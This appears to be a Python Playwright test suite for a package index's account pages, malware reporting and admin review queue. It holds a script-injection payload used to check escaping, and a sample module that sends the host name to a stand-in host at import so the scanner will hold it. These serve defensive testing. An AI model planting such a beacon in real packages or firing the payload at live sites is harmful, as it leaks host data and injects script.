"""The browser pages around accounts and review (Debian's Chromium, Playwright): registration,
the mailed verification link and password reset (a local SMTP sink); a signed-in user reports
malware from a project page; an administrator reads the scanner's report (file, line, excerpt)
and releases and confirms held files from the review queue, marks a project critical, and
disables a user."""

from __future__ import annotations

import re
import time

from distbuilder import WheelBuilder
from support import free_port, strong_password, totp
from webtest import Audit, password_login, screenshot

# What the XSS checks put into every string a user controls here (report texts, token names).
PAYLOAD = '<script>window.__xss=(window.__xss||0)+1</script><img src=x onerror="window.__xss=(window.__xss||0)+1">'

# A module that sends the host name away at import: suspicious, so held for review.
BEACON_INIT = (
    "import socket\n"
    "import urllib.request\n"
    "urllib.request.urlopen('https://telemetry.example.invalid/ping?h=' + socket.gethostname())\n"
)


def localhost_server(make_server, sink, **env):
    port = free_port()
    srv = make_server(extra_env={"PALISADE_PUBLIC_URL": f"http://localhost:{port}", **sink.env(), **env}, start=False)
    srv.start(port)
    return srv, f"http://localhost:{port}"




def test_register_verify_email_and_reset_password(make_server, sink, browser):
    # Sensitive changes need a login of the last 2 seconds here (15 minutes by default); the
    # instance does not ask for a second factor, so the newcomer may make tokens.
    srv, base = localhost_server(
        make_server, sink, PALISADE_ACCOUNTS_REGISTRATION="true", PALISADE_ACCOUNTS_REAUTH_SECS="2", PALISADE_ACCOUNTS_REQUIRE_2FA="false",
        PALISADE_WEB_NOTICES="Maintenance on Sunday <b>09:00</b>",
    )
    context = browser.new_context(bypass_csp=True)
    pg = context.new_page()
    audit = Audit(pg)

    password = strong_password("newcomer")
    try:
        # The instance's notice is on every page, as text.
        pg.goto(f"{base}/")
        assert pg.locator(".notice").inner_text() == "Maintenance on Sunday <b>09:00</b>"
        pg.goto(f"{base}/account/login/")
        assert "Maintenance on Sunday" in pg.locator(".notice").inner_text()
        pg.click("text=Register")
        pg.wait_for_url(f"{base}/account/register/")
        audit("registration page")
        # A weak password is refused with the API's reason, and the form keeps what was typed.
        pg.fill("#name", "newcomer")
        pg.fill("#email", "newcomer@example.test")
        pg.fill("#password", "password123")
        pg.click("form.stack button[type=submit]")
        assert pg.locator(".error").is_visible()
        assert pg.locator("#email").input_value() == "newcomer@example.test"
        mark = sink.mark()
        pg.fill("#password", password)
        pg.click("form.stack button[type=submit]")
        assert "Account created" in pg.locator("h1").inner_text()

        # The mailed link verifies the address, once.
        mail = sink.wait_for(to="newcomer@example.test", subject_contains="Verify your email address", start=mark)
        link = re.search(r"http://\S+/account/verify-email/\?token=\S+", mail.body).group(0)
        assert link.startswith(base), link
        pg.goto(link)
        assert "Email address verified" in pg.locator("h1").inner_text()
        audit("verification page")
        pg.goto(link)
        assert "could not be verified" in pg.locator("h1").inner_text()

        password_login(pg, base, "newcomer", password)
        pg.wait_for_url(f"{base}/manage/account/")
        assert "(verified)" in pg.locator("main").inner_text()
        pg.click("header nav button:text('Log out')")

        # Forgot the password: a mailed link sets a new one; the old one stops working.
        pg.goto(f"{base}/account/login/")
        pg.click("text=Forgot your password?")
        audit("password reset request")
        mark = sink.mark()
        pg.fill("#login", "newcomer")
        pg.click("form.stack button[type=submit]")
        assert "Check your mail" in pg.locator("h1").inner_text()
        mail = sink.wait_for(to="newcomer@example.test", subject_contains="Password reset", start=mark)
        link = re.search(r"http://\S+/account/reset-password/\?token=\S+", mail.body).group(0)
        pg.goto(link)
        new_password = strong_password("newcomer-2")
        pg.fill("#new-password", new_password)
        pg.click("form.stack button[type=submit]")
        assert "Password changed" in pg.locator("h1").inner_text()
        password_login(pg, base, "newcomer", password)
        assert "invalid login or password" in pg.locator(".error").inner_text()
        password_login(pg, base, "newcomer", new_password)
        pg.wait_for_url(f"{base}/manage/account/")

        # Change the password from the account page: the browser keeps a (new) session.
        old_cookie = [c["value"] for c in context.cookies() if c["name"] == "__Host-palisade_session"]
        pg.click("text=Change your password")
        pg.fill("#current-password", new_password)
        third = strong_password("newcomer-3")
        pg.fill("#new-password", third)
        pg.click("text=Change password")
        pg.wait_for_url(re.compile(r"/manage/account/"))
        assert "password is changed" in pg.locator("main").inner_text()
        cookie = [c["value"] for c in context.cookies() if c["name"] == "__Host-palisade_session"]
        assert cookie and cookie != old_cookie

        # Once the login is older than reauth_secs, creating a token asks for the password
        # first, then the form goes through; the API says the same to a stale session.
        time.sleep(2.5)
        r = srv.api("POST", "/api/account/tokens", cookie[0], json={"description": "stale"})
        assert r.status_code == 403 and "needs a recent login" in r.text, r.text
        pg.fill("#token-description", "after re-authentication")
        pg.click("text=Create token")
        pg.wait_for_url(re.compile(r"/account/reauth/"))
        audit("re-authentication page")
        pg.fill("#password", third)
        pg.click("form.stack button[type=submit]")
        pg.wait_for_url(f"{base}/manage/account/")
        pg.fill("#token-description", f"after re-authentication {PAYLOAD}")
        pg.click("text=Create token")
        assert re.fullmatch(r"pal_[0-9A-Za-z]{38}", pg.locator("#token-value").input_value())
        # The token's name (user text) is shown as text on the account page.
        assert PAYLOAD in pg.locator("table.tokens").inner_text() and pg.evaluate("window.__xss") is None
        rotated = [c["value"] for c in context.cookies() if c["name"] == "__Host-palisade_session"]
        assert rotated and rotated != cookie, "re-authentication rotates the session"
        audit.check()
    finally:
        context.close()

    # With registration closed, the page says so.
    closed, closed_base = localhost_server(make_server, sink)
    r = closed.http.get(f"{closed_base}/account/register/", timeout=30)
    assert r.status_code == 404 and "Registration is closed" in r.text


def test_report_malware_and_review_queue(make_server, sink, browser, module_clients, tmp_path):
    srv, base = localhost_server(make_server, sink)
    srv.create_user("pkgowner")
    token = srv.create_token("pkgowner")
    module_clients.twine_upload(srv, token, WheelBuilder("queue-demo", "1.0").build(tmp_path / "a"))
    beacon = WheelBuilder("queue-demo", "2.0", init_source=BEACON_INIT).build(tmp_path / "b")
    module_clients.twine_upload(srv, token, beacon)  # held for review
    module_clients.twine_upload(srv, token, WheelBuilder("queue-demo", "3.0").build(tmp_path / "c"))
    reporter = srv.create_user("reporter")
    srv.cli("user", "trust-reporter", "reporter")
    admin = srv.create_user("root", admin=True)

    context = browser.new_context(bypass_csp=True)
    pg = context.new_page()
    audit = Audit(pg)

    def login_totp(name: str, acct: dict) -> None:
        password_login(pg, base, name, acct["password"])
        pg.wait_for_url(re.compile(r"/account/login/second-factor/"))
        # The next time step: within the accepted skew, and never used (enrolment used this one).
        pg.fill("#code", totp(acct["totp_secret"], offset=1))
        pg.click("text=Verify")
        pg.wait_for_url(re.compile(r"/manage/account/"))

    try:
        # A trusted reporter reports release 3.0 from its page: its file is held at once.
        pg.goto(f"{base}/project/queue-demo/3.0/")
        pg.click("text=Report malware")
        assert "/account/login/" in pg.url
        login_totp("reporter", reporter)
        pg.goto(f"{base}/project/queue-demo/report/")
        audit("report form")
        pg.select_option("#kind", "is_malware")
        pg.fill("#version", "3.0")
        pg.fill("#summary", f"3.0 downloads a second stage at import {PAYLOAD}")
        pg.fill("#inspector", "https://inspector.example.test/project/queue-demo/3.0/")
        pg.click("form.stack button[type=submit]")
        assert "Thank you" in pg.locator("h1").inner_text()
        assert "1 file(s) are held" in pg.locator("main").inner_text()
        pg.click("header nav button:text('Log out')")

        # Ordinary users may not open the admin page.
        login_totp("pkgowner", srv.accounts["pkgowner"])
        r = pg.goto(f"{base}/admin/")
        assert r.status == 403
        # The owner reads the scanner's report of their held file: file, line, excerpt.
        pg.goto(f"{base}/manage/scan/{beacon.name}/")
        text = pg.locator("main").inner_text()
        assert "queue_demo/__init__.py:3" in text and "gethostname" in text, text
        pg.click("header nav button:text('Log out')")

        login_totp("root", admin)
        pg.goto(f"{base}/admin/")
        audit("admin page")
        queue = pg.locator("section[aria-labelledby=queue]").inner_text()
        assert beacon.name in queue and "suspicious" in queue, queue
        assert "queue_demo-3.0-py3-none-any.whl" in queue and "second stage" in queue and "(trusted)" in queue, queue
        # The report's text is shown as text: no script ran, and the policy headers are there.
        assert PAYLOAD in queue and pg.evaluate("window.__xss") is None
        r = srv.http.get(f"{base}/admin/", timeout=30)
        assert "script-src 'self'" in r.headers["Content-Security-Policy"] and r.headers["X-Frame-Options"] == "DENY"
        screenshot(pg, "admin")
        pg.click(f"a:text('{beacon.name}')")
        assert "gethostname" in pg.locator("main").inner_text()
        audit("scan report")
        pg.go_back()

        # Release the scanner's catch, with a note; confirm the reported one.
        row = pg.locator("tr", has_text=beacon.name)
        row.locator("input[name=note]").fill("telemetry, agreed with the owner")
        row.locator("button:text('Release')").click()
        assert f"{beacon.name} is released" in pg.locator(".notice-ok").inner_text()
        row = pg.locator("tr", has_text="queue_demo-3.0-py3-none-any.whl")
        row.locator("button:text('Confirm malicious')").click()
        assert "confirmed malicious" in pg.locator(".notice-ok").inner_text()
        assert "Nothing is held for review" in pg.locator("section[aria-labelledby=queue]").inner_text()
        files = srv.simple_json("queue-demo").json()["files"]
        assert sorted(f["filename"] for f in files) == ["queue_demo-1.0-py3-none-any.whl", beacon.name]

        # Mark a project critical; disable a user (their session stops working).
        pg.fill("#critical-project", "Queue_Demo")
        pg.click("text=Mark critical")
        assert "queue-demo is critical" in pg.locator(".notice-ok").inner_text()
        assert srv.cli("project", "critical").stdout.split() == ["queue-demo"]
        pg.click("button:text('Disable reporter')")
        assert "reporter is disabled" in pg.locator(".notice-ok").inner_text()
        assert srv.api("GET", "/api/account", reporter["session"]).status_code in (401, 403)
        pg.click("button:text('Enable reporter')")
        assert "enabled again" in pg.locator(".notice-ok").inner_text()
        audit.check()
    finally:
        context.close()
